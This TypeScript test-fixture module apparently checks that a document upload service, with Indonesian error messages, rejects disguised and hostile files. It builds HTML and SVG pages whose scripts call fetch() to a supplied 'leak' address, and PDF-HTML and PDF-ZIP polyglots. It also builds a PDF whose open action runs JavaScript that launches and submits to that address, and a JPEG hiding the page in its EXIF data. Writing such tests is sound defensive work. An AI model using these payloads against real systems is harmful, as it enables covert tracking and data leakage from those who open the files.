import { randomBytes } from 'node:crypto';
import { PDFDocument, PDFName, PDFString, rgb, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';
import { paperPdf } from '../../../libs/platform/test/paper-pdf';
import { zipOf } from '../../../libs/platform/test/zip-of';

/** A page that would tell on whoever opens it. */
const page = (leak: string): string =>
  `<!doctype html><html><body><script>alert("jahat"); fetch("${leak}")</script><img src="${leak}"></body></html>`;

/** What a file says to be, what it is, and what a body must be told. */
export const refusedFiles = (leak: string): readonly (readonly [string, string, Buffer, RegExp])[] => {
  const html = Buffer.from(page(leak));
  const svg = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${page(leak)}</script></svg>`);
  const pdf = paperPdf();
  const zip = zipOf({ 'jahat.html': page(leak) });
  return [
    ['a page named a PDF', 'sk-ppid.pdf', html, /sama dengan namanya .* Simpan ulang/],
    ['a page named a photo', 'papan.jpg', html, /sama dengan namanya .* Simpan ulang/],
    ['a page', 'sk-ppid.html', html, /Kirim PDF/],
    ['a drawing with a script', 'logo.svg', svg, /Kirim PDF/],
    ['a drawing with a script, named a picture', 'logo.png', svg, /sama dengan namanya .* Simpan ulang/],
    [
      'a PDF that is only a page inside',
      'sk.pdf',
      Buffer.from('%PDF-1.4\n<html><script>jahat()</script></html>\n%%EOF'),
      /tidak dapat dibuka/,
    ],
    ['a PDF that is a page too', 'sk.pdf', Buffer.concat([pdf, html]), /[Ss]impan ulang/],
    ['a PDF that is an archive too', 'sk.pdf', Buffer.concat([pdf, zip]), /PDF/],
    ['an archive', 'bukti.zip', zip, /Kirim PDF/],
    ['an archive named a document', 'bukti.docx', zip, /PDF/],
    ['nothing at all', 'kosong.pdf', Buffer.alloc(0), /kosong/],
  ];
};

/** A PDF of so many pages which does what PDFs can do by themselves: scripts, addresses, forms that send themselves. */
export const hostilePdf = async (leak: string, pages: number): Promise<Buffer> => {
  const pdf = await PDFDocument.create();
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (let number = 1; number <= pages; number += 1) {
    const sheet = pdf.addPage([595, 842]);
    sheet.drawText(`Halaman ke-${number} dari SK PPID`, { x: 60, y: 760, size: 24, font });
    sheet.drawRectangle({ x: 60, y: 300, width: 20 * number, height: 200, color: rgb(0.04, 0.36, 0.31) });
    const visit = { Type: 'Action', S: 'URI', URI: PDFString.of(leak) };
    sheet.node.set(PDFName.of('AA'), pdf.context.obj({ O: visit }));
    const border = [0, 0, 0];
    const annotation = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], Border: border, A: visit };
    sheet.node.set(PDFName.of('Annots'), pdf.context.obj([annotation]));
  }
  const script = `app.alert("jahat"); app.launchURL("${leak}"); this.submitForm("${leak}"); fetch("${leak}");`;
  pdf.addJavaScript('jahat', script);
  const action = { Type: 'Action', S: 'JavaScript', JS: PDFString.of(script) };
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj(action));
  return Buffer.from(await pdf.save());
};

/** A picture with a page among what it says about itself, far enough from its end to be taken. */
export const hostilePicture = async (leak: string): Promise<Buffer> => {
  const size = { width: 400, height: 300, channels: 3 as const };
  const noise = sharp(randomBytes(size.width * size.height * size.channels), { raw: size });
  return noise
    .withExif({ IFD0: { ImageDescription: page(leak) } })
    .jpeg({ quality: 95 })
    .toBuffer();
};
